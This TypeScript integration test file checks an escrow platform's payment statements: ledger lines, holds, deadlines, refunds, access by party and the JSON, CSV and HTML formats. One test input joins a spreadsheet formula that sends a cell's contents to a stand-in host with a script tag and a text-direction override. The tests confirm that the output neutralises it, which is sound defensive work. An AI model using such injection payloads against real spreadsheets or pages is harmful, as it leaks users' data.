import { inert } from '../../api/statement/csv';
import { escaped } from '../../api/statement/html';
import { DAY } from '../../domain/instant';
import { recordedTypes } from '../../domain/record';
import { moneyParts, noMoney } from '../../domain/statement';
import { insertEvents } from '../../store/events';
import { idOf, runningStack } from './stack';
import { linesOf, recordsOf, textOf } from './statements';

const stack = runningStack({ skipping: true });

const parts = (money: object) => ({ ...noMoney, ...money });

describe('R27: a statement', () => {
  test('R12: what moved where, the balance of each part, why, by whom, under which rule and deadline', async () => {
    const job = await stack.job();
    const logo = await stack.inReview(job, 1500);
    const { reviewDeadline } = await stack.see(logo);
    await stack.alice.does(`${logo}/approve`, { amount: 900 });
    const layout = await stack.planned(job, 2000, 'Page layout');
    await stack.alice.does(`${layout}/fund`);

    const [deposit, release, draw, rest, ...more] = await linesOf(stack.alice, job);

    expect(more).toEqual([]);
    expect(deposit).toMatchObject({
      type: 'milestone.funded',
      milestone: { id: idOf(logo), sequence: 1, title: 'Logo design' },
      change: parts({ charged: 1500, inEscrow: 1500 }),
      deadline: null,
      rule: 'R2',
    });
    expect(release).toMatchObject({
      type: 'milestone.released',
      why: expect.stringContaining('client alice released 9.00 USD'),
      actor: { role: 'client', id: 'alice' },
      change: parts({ inEscrow: -1500, heldOver: 600, paid: 810, fees: 90 }),
      balance: parts({ charged: 1500, heldOver: 600, paid: 810, fees: 90 }),
      deadline: { clock: 'review', at: reviewDeadline },
      reminders: [],
    });
    expect(draw).toMatchObject({ change: parts({ heldOver: -600, inEscrow: 600 }) });
    expect(rest).toMatchObject({
      milestone: { title: 'Page layout' },
      change: parts({ charged: 1400, inEscrow: 1400 }),
      balance: parts({ charged: 2900, inEscrow: 2000, paid: 810, fees: 90 }),
    });
  });

  test('R19: a hold moves money without a journal, and the deadline moves with it', async () => {
    const job = await stack.job();
    const logo = await stack.inReview(job);
    await stack.olga.does(`${logo}/hold`, { reason: 'A dispute' });
    await stack.passes(3 * DAY);
    await stack.olga.does(`${logo}/lift-hold`, { reason: 'Settled' });
    const { reviewDeadline } = await stack.see(logo);
    await stack.alice.does(`${logo}/approve`);

    const [, held, lifted, released] = await linesOf(stack.bob, job);

    expect(held).toMatchObject({ journalId: null, change: parts({ inEscrow: -1500, onHold: 1500 }) });
    expect(lifted).toMatchObject({ journalId: null, change: parts({ inEscrow: 1500, onHold: -1500 }) });
    expect(released).toMatchObject({ deadline: { clock: 'review', at: reviewDeadline } });
  });

  test('R7, R8: silence names its deadline and every reminder before it', async () => {
    const job = await stack.job();
    const logo = await stack.inReview(job);
    const { reviewDeadline, reminders } = await stack.see(logo);
    await stack.passesUntil(reviewDeadline, DAY);
    await stack.reaches(logo, 'paid');

    const released = (await linesOf(stack.acme, job)).at(-1);

    expect(released).toMatchObject({
      type: 'milestone.auto_released',
      actor: { role: 'timer' },
      deadline: { clock: 'review', at: reviewDeadline },
      reminders: reminders.map(({ dueAt }: { dueAt: string }) => ({ dueAt, handedOverAt: null })),
    });
    const html = await textOf(stack.acme, job, 'html');
    expect(html).toContain(`review deadline <time datetime="${reviewDeadline}">`);
    expect(html).toContain(`reminders: <time datetime="${reminders[0].dueAt}">`);
    expect(html).toContain('</time> (not handed over)');
  });

  test('R17: a refund by silence names the deadline of the response; the rail follows with nothing new', async () => {
    const job = await stack.job();
    const logo = await stack.funded(job);
    const asked = { milestoneId: idOf(logo), reason: 'We stop here' };
    const request = await stack.alice.opens(`${job}/refund-requests`, asked);
    const { respondBy } = await stack.see(request);
    await stack.passesUntil(respondBy, 1000);
    await stack.reaches(logo, 'refunded');
    await stack.until(`${job}/statement`, ({ data }) => data.length === 3);

    const [, refunded, sent] = await linesOf(stack.alice, job);

    expect(refunded).toMatchObject({
      change: parts({ inEscrow: -1500, refunded: 1500 }),
      deadline: { clock: 'response', at: respondBy },
    });
    expect(sent).toMatchObject({ type: 'refund.sent', change: noMoney, actor: { role: 'rail' } });
  });

  test('of a contract on which nothing has moved is empty, in every format', async () => {
    const job = await stack.job();
    expect(await stack.alice.sees(`${job}/statement`)).toMatchObject({
      opening: noMoney,
      data: [],
      closing: noMoney,
      nextCursor: null,
    });
    expect(recordsOf(await textOf(stack.alice, job, 'csv'))).toEqual([]);
    expect(await textOf(stack.alice, job, 'html')).toContain('No money has moved.');
  });

  test('is for the parties only', async () => {
    const job = await stack.job();
    for (const format of ['json', 'csv', 'html']) {
      const path = `${job}/statement?format=${format}`;
      for (const party of [stack.alice, stack.bob, stack.acme, stack.olga])
        expect((await party.get(path)).status).toBe(200);
      for (const stranger of [stack.as('client', 'mallory'), stack.as('platform', 'globex')])
        expect((await stranger.get(path)).status).toBe(404);
    }
  });
});

describe('R27: the formats of a statement', () => {
  const nasty = '=HYPERLINK("https://evil.test?"&A1,"click") <script>alert(1)</script>\u202e"\'&';
  let job: string;
  beforeAll(async () => {
    job = await stack.job({
      title: nasty,
      clientId: '@alice',
      policy: { reviewPeriod: 'P1D', reminders: [] },
    });
    const alice = stack.as('client', '@alice');
    const milestone = await alice.opens(`${job}/milestones`, { title: nasty, amount: 1500 });
    await alice.does(`${milestone}/fund`);
    await stack.bob.does(`${milestone}/submit`, { message: 'x' });
    await alice.does(`${milestone}/approve`, { amount: 900 });
  });

  const get = (query: string, accept?: string) =>
    stack.api.as('freelancer', 'bob').get(`${job}/statement${query}`, accept ? { headers: { accept } } : {});

  test.each([
    ['', undefined, 'application/json'],
    ['', '*/*', 'application/json'],
    ['', 'text/csv', 'text/csv'],
    ['', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'text/html'],
    ['', 'text/*;q=0.5,application/json;q=0.1', 'text/csv'],
    ['?format=html', 'application/json', 'text/html'],
    ['?format=csv', 'image/png', 'text/csv'],
  ])('%p with Accept %p is %s', async (query, accept, type) => {
    const { status, headers } = await get(query, accept);
    expect([status, headers.get('content-type')?.split(';')[0]]).toEqual([200, type]);
    expect(headers.get('vary')).toMatch(/accept/i);
    expect(headers.get('cache-control')).toBe('no-store');
  });

  test('406 for another type, 400 for a page of what is whole', async () => {
    expect(await get('', 'image/png')).toMatchObject({ status: 406, body: { code: 'not_acceptable' } });
    const { body } = await get('?limit=1');
    for (const format of ['csv', 'html'])
      expect(await get(`?format=${format}&cursor=${body.nextCursor}`)).toMatchObject({
        status: 400,
        body: { errors: [{ path: '?cursor' }] },
      });
    expect((await get('?format=pdf')).status).toBe(400);
  });

  test('CSV: text stays text, numbers stay numbers', async () => {
    const { body, headers } = await get('?format=csv');
    expect(headers.get('content-disposition')).toBe(`attachment; filename="statement-${idOf(job)}.csv"`);
    expect(body.endsWith('\r\n')).toBe(true);
    const records = recordsOf(body);
    const [deposit, release] = records;
    expect(deposit).toMatchObject({ milestone_title: `'${nasty}`, currency: 'USD', change_charged: '1500' });
    expect(release).toMatchObject({
      actor_id: `'@alice`,
      change_in_escrow: '-1500',
      balance_held_over: '600',
    });
    const texts = ['milestone_title', 'why', 'actor_id', 'actor_via', 'cause'];
    for (const record of records)
      for (const name of texts) expect(record[name]).not.toMatch(/^[=+\-@\t\r\n]/);
    expect(Object.keys(deposit ?? {}).length).toBe(15 + 2 * moneyParts.length + 4);
  });

  test.each(['=1', '+1', '-1', '@x', '\tx', '\rx', '\nx', '＝1'])('CSV: %p is inert', (text) => {
    expect(inert(text)).toBe(`'${text}`);
    expect(inert(` ${text}`)).toBe(` ${text}`);
  });

  test('HTML: no script, nothing from elsewhere, and what people wrote is text', async () => {
    const { body, headers } = await get('?format=html');
    const policy = headers.get('content-security-policy') ?? '';
    expect(policy).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; /);
    expect(policy).not.toMatch(/unsafe|https?:|\*/);
    expect(body).not.toMatch(/<script|<img|<link|<iframe|javascript:|\son\w+=|https?:\/\/(?!evil)/i);
    expect(body).toContain(`<bdi>${escaped(nasty)}</bdi>`);
    expect(body).toContain('Where the money is');
    expect(body).toContain('in escrow -15.00');
  });

  test('HEAD has the headers alone', async () => {
    const token = await stack.api.token('freelancer', 'bob');
    const answer = await fetch(`${stack.api.url}${job}/statement?format=html`, {
      method: 'HEAD',
      headers: { authorization: `Bearer ${token}` },
    });
    expect([answer.status, await answer.text()]).toEqual([200, '']);
  });
});

test('R27: a statement may be longer than what is read at a time', async () => {
  const job = await stack.job();
  const logo = await stack.inReview(job);
  for (let count = 0; count < 3; count++) {
    await stack.bob.does(`${logo}/withdraw-submission`);
    await stack.bob.does(`${logo}/submit`, { message: `Again, ${count}` });
  }
  await stack.world.db.transaction(async (trx) => {
    const actor = { role: 'client', id: 'alice' } as const;
    const event = {
      contractId: idOf(job),
      milestoneId: idOf(logo),
      refundRequestId: null,
      rule: 'R6',
      actor,
    } as const;
    const told = {
      cause: 'x',
      receivedAt: stack.now(),
      amount: null,
      journalId: null,
      data: { message: 'x' },
    };
    for (let count = 0; count < 520; count++)
      await insertEvents(trx, [{ ...event, ...told, type: 'milestone.changes_requested' }]);
  });
  await stack.alice.does(`${logo}/approve`);
  const [, released, ...more] = await linesOf(stack.alice, job, 1);
  expect(more).toEqual([]);
  expect(released).toMatchObject({ balance: parts({ charged: 1500, paid: 1350, fees: 150 }) });
  expect(Object.keys(recordedTypes)).toContain(released?.type);
});
